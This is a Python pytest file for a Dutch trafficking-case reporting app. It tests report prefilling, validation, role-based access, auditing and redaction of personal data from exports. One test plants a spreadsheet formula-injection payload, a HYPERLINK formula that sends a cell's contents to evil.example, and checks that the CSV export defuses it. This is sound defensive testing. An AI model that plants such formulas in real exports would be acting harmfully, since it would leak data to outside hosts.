import csv
import io
import json

import pytest
from django.urls import reverse
from django.utils import timezone

from casusoverleg.audit import AuditContext
from casusoverleg.models import AuditEvent
from identificatie.models import Melding
from identificatie.services import (
    EXPORT_FIELDS,
    EXPORT_KOPPEN,
    melding_create,
    melding_prefill,
    melding_update,
)
from tests.factories import make_casus

TODAY = timezone.localdate()


@pytest.fixture
def casus(coordinator, politie):
    return make_casus(
        coordinator,
        deelnemers=[politie.organisatie],
        naam="Geheime Naam",
        nationaliteit="BG",
        geboortedatum=TODAY.replace(year=TODAY.year - 30),
        vormen=("arbeid", "crimineel"),
        datum_eerste_signaal=TODAY,
    )


def test_report_is_prefilled_with_only_what_comensha_registers(casus, coordinator):
    melding = melding_prefill(casus=casus)
    assert melding.status == "te_melden"
    assert melding.vormen == ["arbeid", "crimineel"]
    assert melding.herkomstland.code == "BG" and melding.leeftijd == 30
    assert melding.meldende_organisatie == coordinator.organisatie
    assert melding.pk is None and not Melding.objects.exists()
    opgeslagen = melding_create(casus=casus)
    assert opgeslagen.vormen == ["arbeid", "crimineel"]
    assert melding_create(casus=casus) == opgeslagen == melding_prefill(casus=casus)


def test_opening_the_report_page_creates_no_report(client, casus, coordinator):
    client.force_login(coordinator)
    url = reverse("identificatie:casus-melding", args=[casus.public_id])
    assert client.get(url).status_code == 200
    assert client.get(url + "?x=1").status_code == 200
    assert not Melding.objects.filter(casus=casus).exists()


def test_banner_until_the_case_is_reported(client, casus, politie, coordinator):
    client.force_login(politie)
    url = reverse("casusoverleg:casus-detail", args=[casus.public_id])
    assert "nog niet gemeld bij CoMensha" in client.get(url).content.decode()
    response = client.post(
        reverse("identificatie:casus-melding", args=[casus.public_id]),
        {"status": "gemeld", "gemeld_op": TODAY.isoformat(), "referentie": "CM-2026-7"},
    )
    assert response.status_code == 302
    melding = Melding.objects.get()
    assert melding.gemeld_door == politie and melding.referentie == "CM-2026-7"
    assert "nog niet gemeld bij CoMensha" not in client.get(url).content.decode()


@pytest.mark.parametrize(
    "data,field",
    [
        ({"status": "gemeld", "referentie": "CM-1"}, "gemeld_op"),
        ({"status": "gemeld", "gemeld_op": TODAY.isoformat()}, "referentie"),
        ({"status": "gemeld", "gemeld_op": "2999-01-01", "referentie": "CM-1"}, "gemeld_op"),
        ({"status": "niet_gemeld"}, "reden_niet_gemeld"),
        ({"status": "niet_gemeld", "reden_niet_gemeld": "overig"}, "toelichting_niet_gemeld"),
    ],
)
def test_report_status_needs_its_facts(client, casus, politie, data, field):
    client.force_login(politie)
    response = client.post(reverse("identificatie:casus-melding", args=[casus.public_id]), data)
    assert response.status_code == 200
    assert field in response.context["form"].errors
    assert not Melding.objects.exists()  # nothing half-saved


def _report(casus, user):
    return melding_update(
        ctx=AuditContext.system(user),
        melding=melding_prefill(casus=casus),
        data={"status": "gemeld", "gemeld_op": TODAY, "referentie": "CM-42"},
    )


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_export_holds_exactly_the_registered_fields_and_is_audited(client, casus, politie, fmt):
    _report(casus, politie)
    client.force_login(politie)
    response = client.get(
        reverse("identificatie:casus-melding-export", args=[casus.public_id, fmt])
    )
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"
    assert f'filename="melding-{casus.nummer}.{fmt}"' in response["Content-Disposition"]
    body = response.content.decode()
    if fmt == "json":
        row = json.loads(body)
    else:
        rows = list(csv.DictReader(io.StringIO(body)))
        assert len(rows) == 1
        # The headers are labels people read, not field codes (issue 12, point 5).
        assert list(rows[0]) == [str(EXPORT_KOPPEN[veld]) for veld in EXPORT_FIELDS]
        row = {veld: rows[0][str(EXPORT_KOPPEN[veld])] for veld in EXPORT_FIELDS}
    assert list(row) == EXPORT_FIELDS
    assert row["casusnummer"] == casus.nummer and row["referentie"] == "CM-42"
    assert "Geheime Naam" not in body and str(casus.geboortedatum) not in body
    event = AuditEvent.objects.filter(actie="exporteren").get()
    assert event.casus_public_id == casus.public_id and event.detail["formaat"] == fmt


def test_comensha_sees_reports_addressed_to_it_and_nothing_else_of_the_case(
    client, casus, politie, comensha, coordinator
):
    onverzonden = make_casus(coordinator, naam="Nog Niet Gemeld")
    melding_create(casus=onverzonden)
    melding = _report(casus, politie)
    client.force_login(comensha)
    html = client.get(reverse("identificatie:comensha-meldingen")).content.decode()
    assert casus.nummer in html and onverzonden.nummer not in html
    assert "Geheime Naam" not in html
    detail = client.get(reverse("identificatie:comensha-melding", args=[melding.public_id]))
    assert detail.status_code == 200 and "Geheime Naam" not in detail.content.decode()
    assert (
        client.get(reverse("casusoverleg:casus-detail", args=[casus.public_id])).status_code == 404
    )
    assert (
        client.get(reverse("identificatie:casus-melding", args=[casus.public_id])).status_code
        == 404
    )
    niet = melding_create(casus=onverzonden)
    assert (
        client.get(reverse("identificatie:comensha-melding", args=[niet.public_id])).status_code
        == 404
    )

    export = client.get(reverse("identificatie:comensha-meldingen-export", args=["json"]))
    rows = json.loads(export.content)
    assert [r["casusnummer"] for r in rows] == [casus.nummer]
    assert list(rows[0]) == EXPORT_FIELDS


def test_other_users_cannot_open_the_comensha_inbox(client, politie):
    client.force_login(politie)
    assert client.get(reverse("identificatie:comensha-meldingen")).status_code == 403
    assert (
        client.get(reverse("identificatie:comensha-meldingen-export", args=["csv"])).status_code
        == 403
    )


def test_observer_sees_the_report_but_cannot_change_it(client, coordinator, zorg):
    casus = make_casus(coordinator, deelnemers=[(zorg.organisatie, "waarnemer")])
    client.force_login(zorg)
    url = reverse("identificatie:casus-melding", args=[casus.public_id])
    assert client.get(url).status_code == 200
    response = client.post(
        url, {"status": "gemeld", "gemeld_op": TODAY.isoformat(), "referentie": "X"}
    )
    assert response.status_code == 403
    assert not Melding.objects.exists()


def test_a_formula_in_a_report_comes_out_of_the_csv_as_text(client, casus, politie, comensha):
    formule = '=HYPERLINK("http://evil.example/?x="&A3,"Open")'
    melding_update(
        ctx=AuditContext.system(politie),
        melding=melding_prefill(casus=casus),
        data={"status": "gemeld", "gemeld_op": TODAY, "referentie": formule},
    )
    for user, url in [
        (politie, reverse("identificatie:casus-melding-export", args=[casus.public_id, "csv"])),
        (comensha, reverse("identificatie:comensha-meldingen-export", args=["csv"])),
    ]:
        client.force_login(user)
        rows = list(csv.DictReader(io.StringIO(client.get(url).content.decode())))
        assert rows[0]["Referentie"] == "'" + formule
